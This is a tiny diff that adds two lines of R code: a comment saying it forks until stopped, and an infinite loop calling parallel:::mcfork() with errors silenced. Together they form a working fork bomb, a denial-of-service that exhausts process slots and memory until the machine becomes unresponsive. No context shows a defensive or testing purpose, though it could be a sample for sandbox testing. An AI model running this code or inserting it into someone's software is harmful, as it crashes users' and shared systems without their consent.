@@ -1,0 +1,2 @@
+# Forks until it is stopped, and its children too.
+while (TRUE) try(parallel:::mcfork(), silent = TRUE)
